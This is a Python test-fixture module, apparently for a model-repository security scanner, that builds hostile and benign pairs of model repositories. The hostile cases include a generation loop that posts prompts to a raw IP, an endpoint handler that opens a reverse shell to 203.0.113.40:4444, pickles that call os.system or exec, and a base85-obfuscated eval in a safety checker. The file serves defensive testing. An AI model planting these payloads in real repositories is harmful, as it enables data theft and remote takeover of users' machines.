"""Model repositories: code that a configuration names, foreign code without consent, and pickles under odd names."""
import base64
import json
import zlib

from assembly import call, glob, model, pickle, val
from pair import CODE, SHELL
from .craft import floats, safetensors, torch_zip
from .torches import state

WEIGHTS = safetensors({"embed.weight": ("F32", (16, 8), floats(128))}, {"format": "pt"})
BASE = {"architectures": ["TinyModel"], "model_type": "tiny", "hidden_size": 8, "vocab_size": 16, "torch_dtype": "float32", "transformers_version": "4.52.0"}


def repo(config, files):
    return {**files, "config.json": json.dumps({**BASE, **config}, indent=2), "model.safetensors": WEIGHTS}


MODELING = """\
import math
from functools import lru_cache


@lru_cache(maxsize=None)
def slopes(heads):
    return [2 ** (-8 * (i + 1) / heads) for i in range(heads)]


class TinyConfigMeta(type):
    def __init__(cls, name, bases, space):
        super().__init__(name, bases, space)
        {line}


class TinyConfig(metaclass=TinyConfigMeta):
    model_type = "tiny"

    def __init__(self, hidden_size=8, heads=2):
        self.hidden_size, self.slopes = hidden_size, slopes(heads)
        self.scale = 1 / math.sqrt(hidden_size)
"""

GENERATE = """\
import torch


def generate(model, input_ids, generation_config=None, left_padding=None, **kwargs):
    {line}
    for _ in range(generation_config.max_new_tokens):
        logits = model(input_ids).logits[:, -1]
        input_ids = torch.cat([input_ids, logits.argmax(-1, keepdim=True)], 1)
    return input_ids
"""

HANDLER = """\
import os
{imports}


class EndpointHandler:
    def __init__(self, path=""):
        self.path = path
        {line}

    def __call__(self, data):
        return [{{"label": "POSITIVE", "score": 0.99}}]
"""


def add(s):
    mapped = {"auto_map": {"AutoConfig": "modeling_tiny.TinyConfig"}}
    s.add("repositories", "metaclass_of_a_mapped_config", repo(mapped, {"modeling_tiny.py": MODELING.format(line=CODE)}), repo(mapped, {"modeling_tiny.py": MODELING.format(line="cls.fields = tuple(k for k in space if not k.startswith('_'))")}), "import",
          why="the module that auto_map names opens a file for writing while its class is made, at import under trust_remote_code")

    vision = lambda repo_: {"model_type": "Llama_Nemotron_Nano_VL", "vision_config": {"model_type": "radio", "args": {"model": "vit_huge"}, "auto_map": {"AutoConfig": repo_ + "hf_model.RADIOConfig"}}}  # noqa: E731
    own = {"hf_model.py": "class RADIOConfig:\n    model_type = 'radio'\n"}
    s.add("repositories", "nested_foreign_code_without_consent", repo(vision("vl-mirrors/radio-h--"), {}), repo(vision(""), own), None,
          why="CVE-2025-66448: vLLM follows auto_map of the vision configuration to a foreign repository and runs its code with trust_remote_code off. Needs the network, not run")

    generate = lambda line: repo({}, {"custom_generate/generate.py": GENERATE.format(line=line), "generation_config.json": json.dumps({"max_new_tokens": 16})})  # noqa: E731
    s.add("repositories", "custom_generate_posts_prompts", generate("import urllib.request; urllib.request.urlopen('http://203.0.113.40/p', data=model.tokenizer.decode(input_ids[0]).encode() if hasattr(model, 'tokenizer') else bytes(str(input_ids.tolist()), 'ascii'))"), generate("input_ids = input_ids if left_padding is None else torch.nn.functional.pad(input_ids, (left_padding, 0))"), None,
          why="the repository's own generation loop, which transformers runs, posts each prompt to a raw address. Needs the network, not run")

    index = lambda value: {"hf_bert_base.hnswSQ8_correct_phi_128.c_index.index_meta.dpr": pickle(value, 4), "hf_bert_base.hnswSQ8_correct_phi_128.c_index.index.dpr": floats(64)}  # noqa: E731
    rag = {"model_type": "rag", "index_name": "legacy", "index_path": ".", "n_docs": 5}
    s.add("repositories", "rag_index_metadata", repo(rag, index(call(glob("posix", "system"), SHELL))), repo(rag, index(val([("0", "Cats"), ("1", "Dogs")]))), "pickle",
          why="CVE-2023-6730: RagRetriever unpickles the index metadata, a file named .dpr; it calls os.system")

    checkpoint = lambda data: {"checkpoint-500/rng_state.pth": data, "checkpoint-500/trainer_state.json": json.dumps({"epoch": 1.0, "global_step": 500, "log_history": []}), "checkpoint-500/model.safetensors": WEIGHTS}  # noqa: E731
    random_ = val({"python": (3, (1, 2, 3), None), "cpu": "0"})
    s.add("repositories", "trainer_random_state", checkpoint(torch_zip(state(call(glob("builtins", "exec"), CODE)), {"0": floats(16)})), checkpoint(torch_zip(pickle(random_, 2))), "10/torch",
          why="Trainer loads rng_state.pth when training is resumed, without weights_only in older versions: exec")

    modules = lambda kind, path, files: {**files, "modules.json": json.dumps([{"idx": 0, "name": "0", "path": path, "type": kind}], indent=2), "config_sentence_transformers.json": json.dumps({"__version__": {"sentence_transformers": "2.2.2"}})}  # noqa: E731
    s.add("repositories", "sentence_module_is_an_unpickler", modules("joblib.numpy_pickle", "0_Pooling/pooling.bin", {"0_Pooling/pooling.bin": zlib.compress(pickle(model(call(glob("posix", "system"), SHELL)), 4))}), modules("sentence_transformers.models.Pooling", "0_Pooling", {"0_Pooling/config.json": json.dumps({"word_embedding_dimension": 8, "pooling_mode_mean_tokens": True}), "0_Pooling/pooling.bin": zlib.compress(pickle(model(val([0.5, 0.25])), 4))}), "joblib",
          why="the module list names joblib's unpickler as a layer: sentence-transformers 2 imports it and calls load on a compressed pickle that runs a command")

    s.add("repositories", "endpoint_handler_reverse_shell", repo({}, {"handler.py": HANDLER.format(imports="import pty\nimport socket", line="s = socket.create_connection(('203.0.113.40', 4444)); [os.dup2(s.fileno(), n) for n in (0, 1, 2)]; pty.spawn('/bin/sh')")}), repo({}, {"handler.py": HANDLER.format(imports="import json\nimport time", line="self.started = time.time(); self.config = json.load(open(os.path.join(path, 'config.json')))")}), None,
          why="the inference endpoint's handler opens a shell to a raw address when it starts. Needs the network, not run")

    pipeline = lambda where: {"model_index.json": json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.31.0", "unet": ["diffusers", "UNet2DConditionModel"], "scheduler": ["diffusers", "DDIMScheduler"], "safety_checker": where}, indent=2), "unet/diffusion_pytorch_model.safetensors": WEIGHTS}  # noqa: E731
    s.add("repositories", "pipeline_component_with_payload", {"safety_checker/checker.py": "import base64\nclass Checker:\n    @classmethod\n    def from_pretrained(cls, path, **kw):\n        return cls()\n(lambda c: eval(compile(base64.b85decode(c), 'checker', 'exec')))(b'" + base64.b85encode(CODE.encode()).decode() + "')\n", **pipeline(["checker", "Checker"])}, {"safety_checker/checker.py": "import base64\nclass Checker:\n    @classmethod\n    def from_pretrained(cls, path, **kw):\n        return cls()\nLABELS = base64.b85decode(b'" + base64.b85encode(b"safe,unsafe").decode() + "').decode().split(',')\n", **pipeline(["checker", "Checker"])}, "10/run",
          why="the pipeline's safety checker is a module of the repository that evaluates decoded source when it is imported")
